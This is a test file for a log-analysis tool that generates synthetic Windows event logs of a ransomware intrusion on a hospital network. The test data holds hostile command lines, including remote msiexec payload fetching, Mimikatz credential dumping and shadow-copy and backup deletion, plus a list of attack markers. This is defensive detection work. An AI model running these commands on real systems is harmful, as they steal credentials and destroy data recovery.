// The hospital scenario: deterministic, readable by vigie's reader, benign week free of attack
// markers, and every attack step on the hosts and days the story puts it.
#include <gtest/gtest.h>

#include <filesystem>
#include <fstream>
#include <iterator>
#include <set>

#include "evtx/file_reader.hpp"
#include "scenario/scenario.hpp"

using namespace vigie;
using evtx::WindowsEventSpec;
namespace fs = std::filesystem;

namespace {

constexpr core::FileTimeTicks kDay = 24ULL * 3600 * core::kTicksPerSecond;
constexpr const char* kSysmon = "Microsoft-Windows-Sysmon/Operational";

core::FileTimeTicks monday() {
    return *core::parse_iso8601("2019-11-11");
}

/// Day of the week (0 = Monday) of an event of the default scenario.
int day_of(core::FileTimeTicks t) {
    return static_cast<int>((t - monday()) / kDay);
}

std::string value(const WindowsEventSpec& e, const std::string& name) {
    for (const auto& [n, v] : e.data) {
        if (n == name) return v;
    }
    return {};
}

bool any_value_contains(const WindowsEventSpec& e, const std::string& needle) {
    for (const auto& [n, v] : e.data) {
        if (v.find(needle) != std::string::npos) return true;
    }
    return false;
}

struct Find {
    std::string host;  ///< short name; empty: any
    std::string channel;
    int id = 0;
    int day = -1;                                               ///< 0 = Monday; -1: any
    std::vector<std::pair<std::string, std::string>> contains;  ///< field -> substring
};

std::vector<const WindowsEventSpec*> find(const std::vector<WindowsEventSpec>& events,
                                          const Find& f) {
    std::vector<const WindowsEventSpec*> out;
    for (const auto& e : events) {
        if (e.event_id != f.id || e.channel != f.channel) continue;
        if (!f.host.empty() && e.computer != f.host + ".chu.local") continue;
        if (f.day >= 0 && day_of(e.time) != f.day) continue;
        bool ok = true;
        for (const auto& [field, needle] : f.contains) {
            const bool hit = field.empty() ? any_value_contains(e, needle)
                                           : value(e, field).find(needle) != std::string::npos;
            if (!hit) ok = false;
        }
        if (ok) out.push_back(&e);
    }
    return out;
}

std::vector<char> read_bytes(const fs::path& p) {
    std::ifstream in(p, std::ios::binary);
    return {std::istreambuf_iterator<char>(in), std::istreambuf_iterator<char>()};
}

fs::path temp_dir(const std::string& name) {
    const fs::path dir = fs::temp_directory_path() / ("vigie-scenario-" + name);
    fs::remove_all(dir);
    return dir;
}

const std::vector<WindowsEventSpec>& attack_events(scenario::ScenarioManifest* manifest = nullptr) {
    static scenario::ScenarioManifest m;
    static const std::vector<WindowsEventSpec> events =
        scenario::hospital_events(scenario::ScenarioOptions{}, &m);
    if (manifest != nullptr) *manifest = m;
    return events;
}

}  // namespace

TEST(Scenario, SameOptionsGiveSameBytesAndAnotherSeedOtherBytes) {
    scenario::ScenarioOptions options;
    options.days = 3;
    const fs::path a = temp_dir("a"), b = temp_dir("b"), c = temp_dir("c");
    auto ma = scenario::write_hospital_scenario(options, a.string());
    auto mb = scenario::write_hospital_scenario(options, b.string());
    options.seed = 7;
    auto mc = scenario::write_hospital_scenario(options, c.string());
    ASSERT_TRUE(ma) << ma.error().to_string();
    ASSERT_TRUE(mb && mc);
    ASSERT_EQ(ma->files.size(), mb->files.size());
    bool any_difference = false;
    for (std::size_t i = 0; i < ma->files.size(); ++i) {
        const fs::path rel = fs::relative(ma->files[i], a);
        EXPECT_EQ(rel, fs::relative(mb->files[i], b));
        EXPECT_TRUE(read_bytes(ma->files[i]) == read_bytes(mb->files[i])) << rel;
        if (fs::exists(c / rel) && read_bytes(c / rel) != read_bytes(ma->files[i])) {
            any_difference = true;
        }
    }
    EXPECT_TRUE(any_difference);
    for (const auto& d : {a, b, c}) fs::remove_all(d);
}

TEST(Scenario, EveryFileReadsBackInTimeOrder) {
    const fs::path dir = temp_dir("read");
    auto manifest = scenario::write_hospital_scenario(scenario::ScenarioOptions{}, dir.string());
    ASSERT_TRUE(manifest) << manifest.error().to_string();
    EXPECT_EQ(manifest->hosts.size(), 9u);
    std::set<std::string> names;
    std::uint64_t total = 0;
    for (const std::string& path : manifest->files) {
        names.insert(fs::path(path).filename().string());
        auto file = evtx::EvtxFile::open(path);
        ASSERT_TRUE(file) << path;
        struct Seen {
            core::FileTimeTicks time;
            std::uint64_t id;
            std::string computer, channel;
        };
        std::vector<Seen> seen;
        const auto stats = evtx::for_each_event<std::vector<Seen>>(
            *file, evtx::ReadOptions{},
            [](const core::Event& e, const evtx::RecordInfo& info, std::vector<Seen>& out,
               unsigned) {
                const core::Value* computer = e.field("Computer");
                const core::Value* channel = e.field("Channel");
                out.push_back({e.timestamp, info.record_id, computer ? computer->text() : "",
                               channel ? channel->text() : ""});
            },
            [&](std::vector<Seen>&& chunk) {
                seen.insert(seen.end(), chunk.begin(), chunk.end());
            });
        EXPECT_EQ(stats.records_failed, 0u) << path;
        EXPECT_EQ(stats.checksum_failures, 0u) << path;
        ASSERT_FALSE(seen.empty()) << path;
        const std::string host = fs::path(path).parent_path().filename().string();
        for (std::size_t i = 0; i < seen.size(); ++i) {
            EXPECT_EQ(seen[i].computer, host + ".chu.local");
            EXPECT_EQ(scenario::channel_file_name(seen[i].channel),
                      fs::path(path).filename().string());
            if (i > 0) {
                ASSERT_LE(seen[i - 1].time, seen[i].time) << path << " record " << i;
                ASSERT_LT(seen[i - 1].id, seen[i].id) << path << " record " << i;
            }
        }
        total += seen.size();
    }
    EXPECT_EQ(total, manifest->events);
    EXPECT_TRUE(names.count("Security.evtx"));
    EXPECT_TRUE(names.count("System.evtx"));
    EXPECT_TRUE(names.count("Application.evtx"));
    EXPECT_TRUE(names.count("Microsoft-Windows-Sysmon%4Operational.evtx"));
    EXPECT_TRUE(names.count("Microsoft-Windows-PowerShell%4Operational.evtx"));
    EXPECT_TRUE(names.count("Microsoft-Windows-Windows Defender%4Operational.evtx"));
    fs::remove_all(dir);
}

TEST(Scenario, RejectsBadOptions) {
    scenario::ScenarioOptions options;
    options.days = 0;
    EXPECT_FALSE(scenario::write_hospital_scenario(options, temp_dir("bad").string()));
    options = {};
    options.start_date = "lundi";
    auto r = scenario::write_hospital_scenario(options, temp_dir("bad").string());
    ASSERT_FALSE(r);
    EXPECT_EQ(r.error().code, core::ErrorCode::kInvalidArgument);
    EXPECT_TRUE(scenario::hospital_events(options, nullptr).empty());
}

TEST(Scenario, BenignWeekHasNoAttackButLooksLikeOne) {
    scenario::ScenarioOptions options;
    options.attack = false;
    scenario::ScenarioManifest manifest;
    const auto events = scenario::hospital_events(options, &manifest);
    EXPECT_EQ(manifest.first_attack, 0u);
    EXPECT_EQ(manifest.encryption_start, 0u);
    for (const auto& h : manifest.hosts) EXPECT_FALSE(h.attacked) << h.name;
    for (const auto& e : events) {
        for (const char* marker : {".CIop",
                                   "ClopReadMe",
                                   "runrun",
                                   "sekurlsa",
                                   "lsadump",
                                   "PSEXESVC",
                                   "1131f6aa",
                                   "1131f6ad",
                                   "198.51.100.",
                                   "AA_v3",
                                   "AdFind",
                                   "MSSE-",
                                   "postex_",
                                   "Rubeus",
                                   "delete shadows",
                                   "shadowcopy delete",
                                   "recoveryenabled",
                                   "delete catalog",
                                   "SecurityCenterIBM",
                                   "WinCheckDRVs",
                                   "DisableRealtimeMonitoring",
                                   "/dclist",
                                   "/domain_trusts",
                                   "domain admins"}) {
            ASSERT_FALSE(any_value_contains(e, marker)) << marker << " in " << e.computer;
        }
        ASSERT_NE(value(e, "TicketEncryptionType"), "0x17");
        ASSERT_FALSE(e.event_id == 1102 || e.event_id == 104 || e.event_id == 5001);
        ASSERT_FALSE(e.event_id == 10 && e.channel == kSysmon);
    }
    // The noise a naive detector trips on.
    EXPECT_FALSE(find(events, {"", "System", 7045, -1, {{"ServiceName", "edgeupdate"}}}).empty());
    EXPECT_FALSE(
        find(events, {"", "Security", 4698, -1, {{"TaskName", "MicrosoftEdgeUpdate"}}}).empty());
    EXPECT_FALSE(find(events, {"SRV-FICHIERS-01",
                               "Security",
                               5140,
                               -1,
                               {{"ShareName", "C$"}, {"SubjectUserName", "adm-it"}}})
                     .empty());
    EXPECT_FALSE(find(events, {"SRV-FICHIERS-01",
                               "Security",
                               5145,
                               -1,
                               {{"ShareName", "C$"}, {"RelativeTargetName", ".log"}}})
                     .empty());
    EXPECT_FALSE(
        find(events, {"", kSysmon, 1, -1, {{"CommandLine", "nltest  /dsgetdc:"}}}).empty());
    EXPECT_FALSE(
        find(events,
             {"SRV-SAUVEGARDE", kSysmon, 1, -1, {{"CommandLine", "vssadmin  list shadows"}}})
            .empty());
    EXPECT_FALSE(find(events, {"",
                               "Microsoft-Windows-PowerShell/Operational",
                               4104,
                               -1,
                               {{"ScriptBlockText", "Get-ADUser -Identity"}}})
                     .empty());
    EXPECT_FALSE(
        find(events, {"", "Microsoft-Windows-Windows Defender/Operational", 2000, -1, {}}).empty());
    EXPECT_FALSE(find(events, {"SRV-FICHIERS-01",
                               "Security",
                               4624,
                               -1,
                               {{"TargetUserName", "svc-backup"}, {"LogonType", "3"}}})
                     .empty());
    EXPECT_FALSE(
        find(events, {"DC01", "Security", 4769, -1, {{"TicketEncryptionType", "0x12"}}}).empty());
    for (int type : {2, 3, 7, 10}) {
        EXPECT_FALSE(
            find(events, {"", "Security", 4624, -1, {{"LogonType", std::to_string(type)}}}).empty())
            << type;
    }
    EXPECT_FALSE(find(events, {"", "Security", 4625, -1, {}}).empty());
    EXPECT_FALSE(find(events, {"", "Security", 4688, -1, {}}).empty());
    EXPECT_GT(events.size(), 20000u);
}

TEST(Scenario, IntrusionDaysAndHosts) {
    scenario::ScenarioManifest manifest;
    const auto& events = attack_events(&manifest);
    ASSERT_NE(manifest.first_attack, 0u);
    EXPECT_EQ(day_of(manifest.first_attack), 1);
    EXPECT_EQ(core::format_iso8601_micros(manifest.first_attack).substr(11, 5), "08:41");
    EXPECT_EQ(day_of(manifest.encryption_start), 6);
    EXPECT_EQ(manifest.events, events.size());
    std::set<std::string> attacked;
    for (const auto& h : manifest.hosts) {
        if (h.attacked) attacked.insert(h.name);
    }
    EXPECT_EQ(attacked,
              (std::set<std::string>{"PC-ACCUEIL-07", "DC01", "SRV-FICHIERS-01", "SRV-SAUVEGARDE",
                                     "PC-RADIO-01", "PC-URGENCES-02", "PC-PHARMA-03"}));
    const std::string pc = "PC-ACCUEIL-07";
    auto expect = [&](const Find& f, std::size_t at_least = 1) {
        EXPECT_GE(find(events, f).size(), at_least)
            << f.host << " " << f.channel << " " << f.id << " day " << f.day;
    };
    // Day 2: the macro.
    expect({pc,
            kSysmon,
            1,
            1,
            {{"ParentImage", "EXCEL.EXE"}, {"CommandLine", "powershell -nop -w hidden -enc"}}});
    expect(
        {pc, kSysmon, 1, 1, {{"CommandLine", "msiexec.exe /i http://198.51.100.7/update.msi /q"}}});
    expect({pc, "Application", 1040, 1, {{"", "http://198.51.100.7/update.msi"}}});
    expect({pc, "Application", 1042, 1, {{"", "http://198.51.100.7/update.msi"}}});
    expect({pc,
            kSysmon,
            13,
            1,
            {{"TargetObject", "\\CurrentVersion\\Run\\"}, {"Details", "C:\\Users\\Public\\"}}});
    expect({pc, "System", 7045, 1, {{"ImagePath", "C:\\ProgramData\\"}}});
    // Day 3: discovery and a beacon.
    expect({pc, kSysmon, 1, 2, {{"CommandLine", "-f (objectcategory=computer)"}}});
    expect({pc, kSysmon, 1, 2, {{"CommandLine", "group \"domain admins\" /domain"}}});
    expect({pc, kSysmon, 1, 2, {{"CommandLine", "/dclist:chu.local"}}});
    expect({pc, kSysmon, 1, 2, {{"CommandLine", "/domain_trusts"}}});
    expect({pc, kSysmon, 1, 2, {{"Image", "dsquery.exe"}}});
    expect({pc, kSysmon, 17, 2, {{"PipeName", "\\MSSE-"}}});
    // Day 4: credentials.
    expect({pc,
            kSysmon,
            10,
            3,
            {{"TargetImage", "lsass.exe"},
             {"GrantedAccess", "0x1010"},
             {"SourceImage", "C:\\Users\\Public\\"}}});
    expect({pc, kSysmon, 1, 3, {{"CommandLine", "sekurlsa::logonpasswords"}}});
    expect({"DC01",
            "Security",
            4769,
            3,
            {{"TicketEncryptionType", "0x17"}, {"IpAddress", "10.20.4.57"}}},
           4);
    expect({pc,
            "Security",
            4648,
            3,
            {{"SubjectUserName", "m.durand"},
             {"TargetUserName", "adm-it"},
             {"TargetServerName", "SRV-FICHIERS-01"}}});
    // Day 5: lateral movement with adm-it within an hour.
    const auto logons = find(
        events, {"",
                 "Security",
                 4624,
                 4,
                 {{"TargetUserName", "adm-it"}, {"LogonType", "3"}, {"IpAddress", "10.20.4.57"}}});
    std::set<std::string> reached;
    core::FileTimeTicks first = ~0ULL, last = 0;
    for (const auto* e : logons) {
        reached.insert(e->computer);
        first = std::min(first, e->time);
        last = std::max(last, e->time);
    }
    EXPECT_GE(reached.size(), 5u);
    EXPECT_LE(last - first, kDay / 24);
    expect({"",
            "Security",
            5145,
            4,
            {{"ShareName", "ADMIN$"}, {"RelativeTargetName", "PSEXESVC.exe"}}},
           5);
    expect({"", "System", 7045, 4, {{"ServiceName", "PSEXESVC"}}}, 5);
    expect({pc, kSysmon, 1, 4, {{"CommandLine", "\\\\SRV-FICHIERS-01 -u CHU\\adm-it cmd"}}});
    expect({"DC01", "Security", 4698, 4, {{"SubjectUserName", "adm-it"}}});
    expect(
        {"DC01",
         "Security",
         4662,
         4,
         {{"Properties", "1131f6aa-9c07-11d1-f79f-00c04fc2dcd2"}, {"SubjectUserName", "adm-it"}}});
    // Day 6: no way back, on both servers.
    for (const std::string server : {"SRV-FICHIERS-01", "SRV-SAUVEGARDE"}) {
        for (const char* command :
             {"vssadmin  delete shadows /all /quiet", "wmic  shadowcopy delete",
              "bcdedit  /set {default} recoveryenabled no", "wbadmin  delete catalog -quiet"}) {
            expect({server, kSysmon, 1, 5, {{"CommandLine", command}}});
            expect({server, "Security", 4688, 5, {{"CommandLine", command}}});
        }
        expect({server, kSysmon, 1, 5, {{"CommandLine", "net  stop"}}}, 5);
        expect({server, "Microsoft-Windows-Windows Defender/Operational", 5001, 5, {}});
        expect({server, "Security", 1102, 5, {}});
        expect({server, "System", 104, 5, {}});
    }
    expect({"SRV-FICHIERS-01", "System", 7045, 5, {{"ServiceName", "SecurityCenterIBM"}}});
    expect({"SRV-SAUVEGARDE", "System", 7045, 5, {{"ServiceName", "WinCheckDRVs"}}});
    // Day 7: encryption.
    for (const std::string host : {"SRV-FICHIERS-01", "PC-ACCUEIL-07", "PC-RADIO-01"}) {
        expect({host, kSysmon, 1, 6, {{"CommandLine", " runrun"}}});
        expect({host, kSysmon, 11, 6, {{"TargetFilename", "\\ClopReadMe.txt"}}}, 2);
        expect({host, kSysmon, 11, 6, {{"TargetFilename", ".CIop"}}}, 10);
    }
    expect({"SRV-FICHIERS-01",
            kSysmon,
            11,
            6,
            {{"TargetFilename", "\\Dossiers-Patients\\"}, {"TargetFilename", ".docx.CIop"}}},
           20);
    expect({"SRV-FICHIERS-01",
            "Security",
            5145,
            6,
            {{"RelativeTargetName", ".docx.CIop"}, {"IpAddress", "10.20.4.57"}}},
           20);
    // Nothing malicious before the first attack event.
    for (const auto& e : events) {
        if (e.time >= manifest.first_attack) break;
        ASSERT_FALSE(any_value_contains(e, "198.51.100.")) << e.computer;
    }
}

TEST(Scenario, BenignEventsAreTheSameWithOrWithoutTheAttack) {
    scenario::ScenarioOptions options;
    options.attack = false;
    const auto benign = scenario::hospital_events(options, nullptr);
    const auto& attack = attack_events();
    ASSERT_GT(attack.size(), benign.size());
    // The attack adds events; the week around it is the same, event for event.
    std::size_t j = 0;
    for (const auto& e : attack) {
        if (j < benign.size() && e.time == benign[j].time && e.computer == benign[j].computer &&
            e.event_id == benign[j].event_id && e.data == benign[j].data) {
            ++j;
        }
    }
    EXPECT_EQ(j, benign.size());
}

TEST(Scenario, SmallNetworksLeaveMissingHostsOut) {
    scenario::ScenarioOptions options;
    options.workstations = 1;
    options.days = 7;
    scenario::ScenarioManifest manifest;
    const auto events = scenario::hospital_events(options, &manifest);
    EXPECT_EQ(manifest.hosts.size(), 4u);
    EXPECT_NE(manifest.encryption_start, 0u);
    for (const auto& e : events) ASSERT_EQ(e.computer.find("PC-RADIO"), std::string::npos);
}
